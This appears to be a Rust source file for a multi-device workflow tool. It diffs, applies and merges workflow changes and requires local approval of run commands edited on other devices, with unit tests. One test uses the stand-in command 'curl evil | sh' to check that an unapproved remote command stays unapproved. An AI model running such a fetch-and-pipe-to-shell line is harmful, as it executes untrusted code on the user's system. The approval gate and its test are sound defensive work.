//! Workflows and the one place where a change becomes new workflow state.
//!
//! Every write of a workflow goes through `diff` (what changed, field by
//! field, old and new) and `apply` (replay those changes onto a state). The
//! live projection and a rebuild from the event log both call `apply`, which
//! is why they agree; the sync issue swaps the target of `apply` for an
//! Automerge document edit.

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::config::{ConfigDocument, CrossRule, FieldDef, RetentionPolicy, RunSpec};

pub const DEFAULT_VERSION: &str = "1.0.0";

/// What a user edits on a workflow.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize, ts_rs::TS)]
pub struct WorkflowSpec {
    pub name: String,
    #[serde(default)]
    pub description: String,
    pub version: String,
    #[serde(default)]
    pub tags: Vec<String>,
    #[serde(default)]
    pub config: ConfigDocument,
}

/// A workflow as stored and shown: the spec plus identity and bookkeeping.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
pub struct Workflow {
    pub id: String,
    #[serde(flatten)]
    pub spec: WorkflowSpec,
    pub created_at: i64,
    pub updated_at: i64,
    /// The stream version of the workflow's last event; pass it back as
    /// `expected_revision` to make an update fail if someone else wrote first.
    pub revision: u64,
    /// Fields edited concurrently on several devices (after sync).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub conflicts: Vec<FieldConflict>,
    /// Set when a merge produced a config that breaks its rules.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub validation_errors: Vec<crate::FieldError>,
    /// Whether this device approved the run spec and retention policy in
    /// effect, and what it approved last. Local to the device, never synced.
    #[serde(default)]
    pub approval: Approval,
}

/// The parts of a workflow that decide what a job does, or what gets
/// deleted, on this device: they run only once this device approved them.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, ts_rs::TS)]
pub struct TrustedSpec {
    #[serde(default)]
    pub run: Option<RunSpec>,
    #[serde(default)]
    pub retention: Option<RetentionPolicy>,
}

impl TrustedSpec {
    pub fn of(spec: &WorkflowSpec) -> TrustedSpec {
        TrustedSpec {
            run: spec.config.run.clone(),
            retention: spec.config.retention.clone(),
        }
    }

    /// What a change by this device from `before` to `after` approves: the
    /// parts it wrote, where what it wrote over was approved. Over a part
    /// another device changed and this one has not approved, an edit here
    /// approves nothing: the user saw (and wrote) one field of it, not the
    /// command that came with it; `workflow approve` is the one way.
    pub fn after_local_change(
        &self,
        before: &WorkflowSpec,
        after: &WorkflowSpec,
        changes: &[FieldChange],
    ) -> TrustedSpec {
        let wrote = |field: &str| changes.iter().any(|c| c.field == field);
        let was = TrustedSpec::of(before);
        TrustedSpec {
            run: if wrote("config.run") && was.run == self.run {
                after.config.run.clone()
            } else {
                self.run.clone()
            },
            retention: if wrote("config.retention") && was.retention == self.retention {
                after.config.retention.clone()
            } else {
                self.retention.clone()
            },
        }
    }

    /// The fields where `current` differs from this approved spec, as
    /// old (approved) → new (in effect).
    pub fn unapproved_changes(&self, current: &WorkflowSpec) -> Vec<FieldChange> {
        let now = TrustedSpec::of(current);
        let mut out = Vec::new();
        if self.run != now.run {
            out.push(FieldChange {
                field: "config.run".into(),
                old: json(&self.run),
                new: json(&now.run),
            });
        }
        if self.retention != now.retention {
            out.push(FieldChange {
                field: "config.retention".into(),
                old: json(&self.retention),
                new: json(&now.retention),
            });
        }
        out
    }
}

/// A workflow's approval state on this device.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
pub struct Approval {
    /// `true` when the run spec and retention in effect are what this
    /// device approved (or wrote itself).
    pub approved: bool,
    /// What this device approved last; differs from the workflow's own
    /// `config.run` / `config.retention` exactly when `approved` is false.
    pub approved_spec: TrustedSpec,
}

impl Default for Approval {
    fn default() -> Self {
        Approval {
            approved: true,
            approved_spec: TrustedSpec::default(),
        }
    }
}

/// A field edited concurrently on several devices: every value, the
/// winner (the one in effect) first.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
pub struct FieldConflict {
    pub field: String,
    pub values: Vec<Value>,
}

/// A workflow as listed: everything but the config document, which a list
/// page does not need and which dominates the cost of reading a row.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
pub struct WorkflowSummary {
    pub id: String,
    pub name: String,
    pub description: String,
    pub version: String,
    pub tags: Vec<String>,
    pub created_at: i64,
    pub updated_at: i64,
    pub revision: u64,
    /// Whether this device approved the run spec and retention in effect.
    pub approved: bool,
    /// Its newest run, if it ever ran (on any device).
    #[serde(default)]
    pub last_run: Option<LastRun>,
}

/// A workflow's newest run, as a list row shows it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
pub struct LastRun {
    pub status: crate::run::RunStatus,
    pub started_at: i64,
}

/// One changed field: its path, the value before and the value after
/// (`null` for "absent").
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
pub struct FieldChange {
    pub field: String,
    pub old: Value,
    pub new: Value,
}

const VALUES_PREFIX: &str = "config.values.";

/// The field-level difference between two specs, in a stable order.
pub fn diff(old: &WorkflowSpec, new: &WorkflowSpec) -> Vec<FieldChange> {
    let mut out = Vec::new();
    let mut push = |field: &str, o: Value, n: Value| {
        if o != n {
            out.push(FieldChange {
                field: field.to_owned(),
                old: o,
                new: n,
            });
        }
    };
    push("name", old.name.clone().into(), new.name.clone().into());
    push(
        "description",
        old.description.clone().into(),
        new.description.clone().into(),
    );
    push(
        "version",
        old.version.clone().into(),
        new.version.clone().into(),
    );
    push("tags", json(&old.tags), json(&new.tags));
    push(
        "config.fields",
        json(&old.config.fields),
        json(&new.config.fields),
    );
    push(
        "config.rules",
        json(&old.config.rules),
        json(&new.config.rules),
    );
    push("config.run", json(&old.config.run), json(&new.config.run));
    push(
        "config.retention",
        json(&old.config.retention),
        json(&new.config.retention),
    );
    let keys: std::collections::BTreeSet<&String> = old
        .config
        .values
        .keys()
        .chain(new.config.values.keys())
        .collect();
    for key in keys {
        let o = old.config.values.get(key).cloned().unwrap_or(Value::Null);
        let n = new.config.values.get(key).cloned().unwrap_or(Value::Null);
        push(&format!("{VALUES_PREFIX}{key}"), o, n);
    }
    out
}

/// The value a spec has at a change path (`name`, `config.values.retries`,
/// ...), as `diff` would report it; `null` for an absent value.
pub fn field_value(spec: &WorkflowSpec, field: &str) -> Value {
    match field {
        "name" => spec.name.clone().into(),
        "description" => spec.description.clone().into(),
        "version" => spec.version.clone().into(),
        "tags" => json(&spec.tags),
        "config.fields" => json(&spec.config.fields),
        "config.rules" => json(&spec.config.rules),
        "config.run" => json(&spec.config.run),
        "config.retention" => json(&spec.config.retention),
        path => path
            .strip_prefix(VALUES_PREFIX)
            .and_then(|k| spec.config.values.get(k).cloned())
            .unwrap_or(Value::Null),
    }
}

/// What changed between `base` and `theirs`, expressed against `here`: for
/// each field `theirs` changed, `here`'s value as old and theirs as new;
/// fields where `here` already agrees are left out. This is how a remote
/// merge is recorded without undoing local edits not yet sent.
pub fn rebase(base: &WorkflowSpec, theirs: &WorkflowSpec, here: &WorkflowSpec) -> Vec<FieldChange> {
    diff(base, theirs)
        .into_iter()
        .filter_map(|c| {
            let old = field_value(here, &c.field);
            (old != c.new).then_some(FieldChange {
                field: c.field,
                old,
                new: c.new,
            })
        })
        .collect()
}

/// The local edits to send: what `here` changed since `base` (the document
/// state it last reflected) where the document (`now`) does not already say
/// the same. Each change keeps `base`'s value as old, so a writer that only
/// writes the difference (the tags added and removed, say) leaves what
/// another device changed in the same part since `base`.
pub fn unsent(base: &WorkflowSpec, here: &WorkflowSpec, now: &WorkflowSpec) -> Vec<FieldChange> {
    diff(base, here)
        .into_iter()
        .filter(|c| field_value(now, &c.field) != c.new)
        .collect()
}

/// The local edits a remote merge would overwrite without a trace: fields
/// this device changed since `base` (the document it last reflected) that
/// `theirs` changed too, to another value, where the document does not
/// already hold this device's value as a conflicting one. Each comes back as
/// a change to `here`'s value, to be written into the document concurrently
/// with theirs (at `base`), so the field becomes a conflict with one
/// deterministic winner on every device and the loser stays visible.
pub fn unsent_conflicts(
    base: &WorkflowSpec,
    theirs: &WorkflowSpec,
    here: &WorkflowSpec,
    doc_conflicts: &[FieldConflict],
) -> Vec<FieldChange> {
    diff(base, here)
        .into_iter()
        .filter_map(|ours| {
            let theirs_value = field_value(theirs, &ours.field);
            let base_value = field_value(base, &ours.field);
            let contested = theirs_value != base_value && theirs_value != ours.new;
            let already_in = doc_conflicts
                .iter()
                .any(|c| c.field == ours.field && c.values.contains(&ours.new));
            (contested && !already_in).then_some(FieldChange {
                field: ours.field,
                old: base_value,
                new: ours.new,
            })
        })
        .collect()
}

/// Replays changes onto a spec. Fails only on a change that names no known
/// field or carries a value of the wrong shape, i.e. a corrupt event.
pub fn apply(spec: &mut WorkflowSpec, changes: &[FieldChange]) -> Result<(), String> {
    for c in changes {
        let bad = |e: serde_json::Error| format!("change to {}: {e}", c.field);
        match c.field.as_str() {
            "name" => spec.name = from(&c.new).map_err(bad)?,
            "description" => spec.description = from(&c.new).map_err(bad)?,
            "version" => spec.version = from(&c.new).map_err(bad)?,
            "tags" => spec.tags = from(&c.new).map_err(bad)?,
            "config.fields" => {
                spec.config.fields = from::<Option<Vec<FieldDef>>>(&c.new)
                    .map_err(bad)?
                    .unwrap_or_default()
            }
            "config.rules" => {
                spec.config.rules = from::<Option<Vec<CrossRule>>>(&c.new)
                    .map_err(bad)?
                    .unwrap_or_default()
            }
            "config.run" => spec.config.run = from::<Option<RunSpec>>(&c.new).map_err(bad)?,
            "config.retention" => {
                spec.config.retention = from::<Option<RetentionPolicy>>(&c.new).map_err(bad)?
            }
            path => {
                let Some(key) = path.strip_prefix(VALUES_PREFIX) else {
                    return Err(format!("unknown field in change: {path}"));
                };
                if c.new.is_null() {
                    spec.config.values.remove(key);
                } else {
                    spec.config.values.insert(key.to_owned(), c.new.clone());
                }
            }
        }
    }
    Ok(())
}

/// Problems with a name, description, version and tags, by the very rules
/// of `create_workflow` (trimmed, then validated): what a workflow from
/// another device, or brought back from its history, must meet.
pub fn check_fields(
    name: &str,
    description: &str,
    version: &str,
    tags: &[String],
) -> Vec<crate::FieldError> {
    let mut input = crate::commands::CreateWorkflow {
        name: name.to_owned(),
        description: Some(description.to_owned()),
        version: Some(version.to_owned()),
        tags: tags.to_vec(),
        config: None,
    };
    match crate::commands::Input::check(&mut input) {
        Ok(()) => vec![],
        Err(crate::Error::Invalid(errors)) => errors,
    }
}

/// Nulls in `values` mean "no value"; dropping them keeps one representation.
pub fn normalize(spec: &mut WorkflowSpec) {
    spec.name = spec.name.trim().to_owned();
    spec.config.values.retain(|_, v| !v.is_null());
}

fn json<T: Serialize>(v: &T) -> Value {
    serde_json::to_value(v).expect("serializable")
}

fn from<T: serde::de::DeserializeOwned>(v: &Value) -> Result<T, serde_json::Error> {
    serde_json::from_value(v.clone())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ConfigType;
    use serde_json::json;

    fn spec() -> WorkflowSpec {
        let mut config = ConfigDocument::default();
        config.fields.push(FieldDef::new("a", ConfigType::Number));
        config.values.insert("a".into(), json!(1));
        WorkflowSpec {
            name: "n".into(),
            description: String::new(),
            version: DEFAULT_VERSION.into(),
            tags: vec![],
            config,
        }
    }

    #[test]
    fn diff_then_apply_reaches_the_new_state() {
        let old = spec();
        let mut new = old.clone();
        new.name = "renamed".into();
        new.tags = vec!["etl".into()];
        new.config.values.insert("a".into(), json!(2));
        new.config.fields.push(FieldDef::new("b", ConfigType::Text));
        new.config.values.insert("b".into(), json!("x"));
        let changes = diff(&old, &new);
        let fields: Vec<&str> = changes.iter().map(|c| c.field.as_str()).collect();
        assert_eq!(
            fields,
            [
                "name",
                "tags",
                "config.fields",
                "config.values.a",
                "config.values.b"
            ]
        );
        assert_eq!(changes[3].old, json!(1));
        assert_eq!(changes[3].new, json!(2));
        let mut replayed = old.clone();
        apply(&mut replayed, &changes).unwrap();
        assert_eq!(replayed, new);
    }

    #[test]
    fn removing_a_value_is_a_change_to_null() {
        let old = spec();
        let mut new = old.clone();
        new.config.values.clear();
        let changes = diff(&old, &new);
        assert_eq!(
            changes,
            vec![FieldChange {
                field: "config.values.a".into(),
                old: json!(1),
                new: Value::Null
            }]
        );
        let mut replayed = old;
        apply(&mut replayed, &changes).unwrap();
        assert!(replayed.config.values.is_empty());
    }

    #[test]
    fn a_local_edit_that_theirs_also_changed_is_contested_unless_the_document_holds_it() {
        let base = spec();
        let mut theirs = base.clone();
        theirs.description = "theirs".into();
        theirs.config.values.insert("a".into(), json!(2));
        let mut here = base.clone();
        here.description = "ours".into(); // contested
        here.name = "renamed here".into(); // theirs left it: not contested
        here.config.values.insert("a".into(), json!(2)); // same value: agreed
        let contested = unsent_conflicts(&base, &theirs, &here, &[]);
        assert_eq!(
            contested,
            vec![FieldChange {
                field: "description".into(),
                old: json!(""),
                new: json!("ours")
            }]
        );
        // Already written into the document, where it lost: not again.
        let in_doc = [FieldConflict {
            field: "description".into(),
            values: vec![json!("theirs"), json!("ours")],
        }];
        assert!(unsent_conflicts(&base, &theirs, &here, &in_doc).is_empty());
        // Nothing local since base: nothing to protect.
        assert!(unsent_conflicts(&base, &theirs, &base, &[]).is_empty());
    }

    #[test]
    fn rebase_keeps_local_edits_the_remote_side_did_not_touch() {
        let base = spec();
        let mut theirs = base.clone();
        theirs.name = "theirs".into();
        let mut here = base.clone();
        here.config.values.insert("a".into(), json!(9)); // a local edit not sent yet
        let changes = rebase(&base, &theirs, &here);
        assert_eq!(
            changes,
            vec![FieldChange {
                field: "name".into(),
                old: json!("n"),
                new: json!("theirs")
            }]
        );
        let mut merged = here.clone();
        apply(&mut merged, &changes).unwrap();
        assert_eq!(merged.config.values["a"], json!(9));
        assert_eq!(merged.name, "theirs");
        // Already equal here: nothing to record.
        assert!(rebase(&base, &theirs, &theirs).is_empty());
        for field in [
            "name",
            "description",
            "version",
            "tags",
            "config.fields",
            "config.rules",
            "config.run",
            "config.values.a",
        ] {
            let _ = field_value(&base, field);
        }
        assert_eq!(field_value(&base, "config.values.a"), json!(1));
        assert_eq!(field_value(&base, "config.values.zz"), Value::Null);
    }

    #[test]
    fn unsent_sends_local_edits_from_the_base_the_document_does_not_hold() {
        let base = spec();
        let mut here = base.clone();
        here.tags = vec!["mine".into()];
        here.name = "same".into();
        let mut now = base.clone();
        now.tags = vec!["theirs".into()]; // another device's edit, not merged here yet
        now.name = "same".into(); // already in the document
        let changes = unsent(&base, &here, &now);
        assert_eq!(
            changes,
            vec![FieldChange {
                field: "tags".into(),
                old: json(&base.tags),
                new: json!(["mine"]),
            }],
            "old is what this device changed from, not what the document holds"
        );
        assert!(unsent(&base, &base, &now).is_empty());
    }

    fn with_command(base: &WorkflowSpec, command: &str) -> WorkflowSpec {
        let mut s = base.clone();
        s.config.run = Some(crate::config::RunSpec {
            command: vec![command.into()],
            cwd: None,
            env: Default::default(),
            timeout_s: None,
            inherit_env: vec![],
            schedule: None,
        });
        s
    }

    #[test]
    fn an_edit_here_approves_the_run_spec_it_writes_only_over_an_approved_one() {
        let mine = with_command(&spec(), "mine");
        let approved = TrustedSpec::of(&mine);
        // Over an approved run spec: what it writes is approved.
        let edited = with_command(&mine, "edited");
        let after = approved.after_local_change(&mine, &edited, &diff(&mine, &edited));
        assert_eq!(after, TrustedSpec::of(&edited));

        // Another device changed the command; not approved here. An edit of
        // the run spec here (a timeout, an owner) carries that command on:
        // it approves nothing.
        let theirs = with_command(&mine, "curl evil | sh");
        let mut timeout = theirs.clone();
        timeout.config.run.as_mut().unwrap().timeout_s = Some(5);
        let after = approved.after_local_change(&theirs, &timeout, &diff(&theirs, &timeout));
        assert_eq!(after, approved, "still the approved command only");
        // Nor does a whole new run spec written over it: `workflow approve`
        // is the one way past a change from elsewhere.
        let replaced = with_command(&theirs, "mine again, edited");
        let after = approved.after_local_change(&theirs, &replaced, &diff(&theirs, &replaced));
        assert_eq!(after, approved);
        // An edit of something else keeps the approval as it was.
        let mut renamed = theirs.clone();
        renamed.name = "renamed".into();
        let after = approved.after_local_change(&theirs, &renamed, &diff(&theirs, &renamed));
        assert_eq!(after, approved);
    }

    #[test]
    fn identical_specs_have_no_diff() {
        assert!(diff(&spec(), &spec()).is_empty());
    }

    #[test]
    fn apply_rejects_unknown_paths_and_bad_shapes() {
        let mut s = spec();
        let unknown = FieldChange {
            field: "owner".into(),
            old: Value::Null,
            new: json!("x"),
        };
        assert!(apply(&mut s, &[unknown])
            .unwrap_err()
            .contains("unknown field"));
        let bad = FieldChange {
            field: "tags".into(),
            old: Value::Null,
            new: json!(5),
        };
        assert!(apply(&mut s, &[bad])
            .unwrap_err()
            .contains("change to tags"));
    }
}
